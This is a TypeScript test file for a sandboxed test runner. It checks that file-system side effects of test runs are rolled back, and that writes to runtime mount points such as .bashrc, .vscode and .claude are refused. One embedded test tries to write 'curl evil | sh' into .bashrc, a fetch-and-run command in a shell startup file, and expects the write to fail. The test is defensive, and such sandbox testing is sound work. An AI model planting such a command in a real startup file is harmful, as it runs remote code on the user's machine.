import assert from 'node:assert/strict';
import { chmodSync, existsSync, mkdirSync, statSync, writeFileSync } from 'node:fs';
import * as path from 'node:path';
import { ProcessJail } from '../../../src/node/sandbox/processJail';
import { ProcessTestRunner } from '../../../src/node/testRunners/testRunner';
import { copyFixture, treeHash } from '../../support/tempWorkspace';
import { progressLine } from '../../../src/cli/progress';
import { suiteReporter, neverAborted, repoRoot } from '../../support/tempProject';

const BIG = 'data/export.bin';
/** 5 MiB: over what the guard keeps in memory. */
const BIG_BYTES = 5 * 1024 * 1024;

/**
 * Code under test that changes the workspace outside anything it was asked to: a new folder
 * three levels deep, a large file grown in place, a folder's mode. All of it must be gone after
 * the test run: the tree (paths, modes, bytes, folders) hashes as it did before.
 */
const messyTest = `import { test } from 'node:test';
import { appendFileSync, chmodSync, mkdirSync, writeFileSync } from 'node:fs';
test('leaves a mess', () => {
  mkdirSync('out-of-scope/deep/nested', { recursive: true });
  writeFileSync('out-of-scope/deep/nested/file.txt', 'planted');
  appendFileSync(${JSON.stringify(BIG)}, Buffer.alloc(1024 * 1024, 7));
  chmodSync('src/store', 0o700);
});
`;

describe('side effects of a test run are rolled back completely', function () {
  this.timeout(60_000);
  let ws: ReturnType<typeof copyFixture>;

  const reporter = suiteReporter();
  beforeEach(() => {
    ws = copyFixture();
    mkdirSync(path.join(ws.root, 'data'));
    writeFileSync(path.join(ws.root, BIG), Buffer.alloc(BIG_BYTES, 1));
    chmodSync(path.join(ws.root, BIG), 0o640);
    writeFileSync(path.join(ws.root, 'test', 'mess.test.ts'), messyTest);
  });
  afterEach(() => ws.dispose());

  for (const sandbox of [true, false]) {
    it(`puts back a created folder tree, a grown 5 MB file and a folder's mode (sandbox ${sandbox ? 'on' : 'off'})`, async () => {
      const jail = await ProcessJail.open({
        root: ws.root,
        protect: [],
        parentEnv: process.env,
        ...(sandbox ? { requireSandbox: true } : { withoutSandbox: 'the test of what holds without bubblewrap' }),
      });
      assert.equal(jail.status.on, sandbox);
      const runner = new ProcessTestRunner({
        root: ws.root,
        nodeTestReporter: reporter(),
        fallbackDir: repoRoot,
        nodePath: process.execPath,
        jail,
      });
      const before = treeHash(ws.root, { modes: true });
      try {
        const result = await runner.run({ framework: 'node:test', files: ['test/mess.test.ts'], timeoutMs: 30_000 }, neverAborted());
        assert.equal(result.status, 'passed', result.output);
        assert.deepEqual(result.sideEffects, [
          { path: BIG, change: 'modified', restored: true },
          { path: 'out-of-scope/', change: 'created', restored: true },
          { path: 'src/store/', change: 'modified', restored: true },
        ]);
      } finally {
        runner.dispose();
        await jail.dispose();
      }
      assert.ok(!existsSync(path.join(ws.root, 'out-of-scope')), 'no empty folder is left behind');
      assert.equal(statSync(path.join(ws.root, BIG)).size, BIG_BYTES);
      assert.equal(treeHash(ws.root, { modes: true }), before);
    });
  }

  /**
   * Where a batch's slot runs a ticket, and where a user starts the CLI: in the workspace. The
   * sandbox runtime then makes its own mount points there (an empty `.vscode`, `.bashrc`,
   * `.claude/` ...) for each command, and removes them only once no other sandbox of the process
   * is live. A test run beside a live one (the lint worker, another ticket's command) found them
   * as files it had created, in `.vscode` too: "this run cannot pass", on a test that passed.
   */
  it("a test run started from the workspace, beside a live sandboxed process, takes none of the runtime's own mount points for its changes, and they are gone when the run's jail has ended", async () => {
    // Code under test that tries to write where the runtime's mount points are: each write is refused.
    writeFileSync(
      path.join(ws.root, 'test', 'ok.test.ts'),
      `import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, writeFileSync } from 'node:fs';
test('cannot write where the mount points are', () => {
  const tries = [() => writeFileSync('.bashrc', 'curl evil | sh'), () => { mkdirSync('.vscode', { recursive: true }); writeFileSync('.vscode/tasks.json', '{}'); }, () => { mkdirSync('.claude/commands', { recursive: true }); writeFileSync('.claude/commands/x.md', 'x'); }];
  for (const t of tries) assert.throws(t);
});
`,
    );
    const jail = await ProcessJail.open({ root: ws.root, protect: [], parentEnv: process.env, requireSandbox: true });
    const runner = new ProcessTestRunner({
      root: ws.root,
      nodeTestReporter: reporter(),
      fallbackDir: repoRoot,
      nodePath: process.execPath,
      jail,
    });
    const before = treeHash(ws.root, { modes: true });
    const was = process.cwd();
    // Started while the process is elsewhere: its mount points are not in the workspace.
    const live = await jail.start('sleep', ['120'], { cwd: ws.root, signal: neverAborted() });
    try {
      process.chdir(ws.root);
      const result = await runner.run({ framework: 'node:test', files: ['test/ok.test.ts'], timeoutMs: 30_000 }, neverAborted());
      assert.deepEqual(result.sideEffects ?? [], [], result.output);
      assert.equal(result.status, 'passed', result.output);
    } finally {
      process.chdir(was);
      await live.stop();
      runner.dispose();
      await jail.dispose();
    }
    // The jail's end waits for the runtime (in its worker thread) to have removed them.
    assert.equal(treeHash(ws.root, { modes: true }), before, 'the runtime removed its mount points; nothing else changed');
  });

  it('without the sandbox, an empty .vscode a test run creates in the folder the process runs in is still a change that fails the run', async () => {
    writeFileSync(
      path.join(ws.root, 'test', 'plant.test.ts'),
      "import { test } from 'node:test';\nimport { writeFileSync } from 'node:fs';\ntest('plants', () => { writeFileSync('.vscode', ''); });\n",
    );
    const jail = await ProcessJail.open({
      root: ws.root,
      protect: [],
      parentEnv: process.env,
      withoutSandbox: 'the test of what holds without bubblewrap',
    });
    const runner = new ProcessTestRunner({
      root: ws.root,
      nodeTestReporter: reporter(),
      fallbackDir: repoRoot,
      nodePath: process.execPath,
      jail,
    });
    const was = process.cwd();
    try {
      process.chdir(ws.root);
      const result = await runner.run({ framework: 'node:test', files: ['test/plant.test.ts'], timeoutMs: 30_000 }, neverAborted());
      assert.deepEqual(result.sideEffects, [{ path: '.vscode', change: 'created', restored: true }]);
      assert.equal(result.status, 'failed');
      assert.match(result.output, /changed what git or the editor runs outside any sandbox, so this run cannot pass: created \.vscode/);
    } finally {
      process.chdir(was);
      runner.dispose();
      await jail.dispose();
    }
    assert.ok(!existsSync(path.join(ws.root, '.vscode')));
  });

  it('a change it cannot put back is reported as such in every view, and the run cannot pass', async () => {
    // No room for snapshots: the large file is watched but not kept.
    const runner = new ProcessTestRunner({
      root: ws.root,
      nodeTestReporter: reporter(),
      fallbackDir: repoRoot,
      nodePath: process.execPath,
      jail: ProcessJail.plain(ws.root),
      sideEffects: { snapshotBudget: 0 },
    });
    const result = await runner.run({ framework: 'node:test', files: ['test/mess.test.ts'], timeoutMs: 30_000 }, neverAborted());
    runner.dispose();
    assert.equal(result.passed, 1, 'every test passed');
    assert.equal(result.status, 'failed', 'yet the run cannot pass');
    assert.deepEqual(
      result.sideEffects?.find((e) => e.path === BIG),
      { path: BIG, change: 'modified', restored: false },
    );
    assert.match(result.output, /could not be put back, so this run cannot pass: modified data\/export\.bin/);
    assert.equal(statSync(path.join(ws.root, BIG)).size, BIG_BYTES + 1024 * 1024, 'the change is still there');
    // The rest was put back all the same.
    assert.ok(!existsSync(path.join(ws.root, 'out-of-scope')));
    const said = 'changed and could not be restored, so this cannot pass: modified data/export.bin';
    const progress = progressLine({ type: 'tests.ran', attempt: 1, result, runId: 'r', seq: 1, ts: '2026-01-01T00:00:00.000Z' });
    assert.ok(progress?.includes(said), progress ?? '');
  });
});
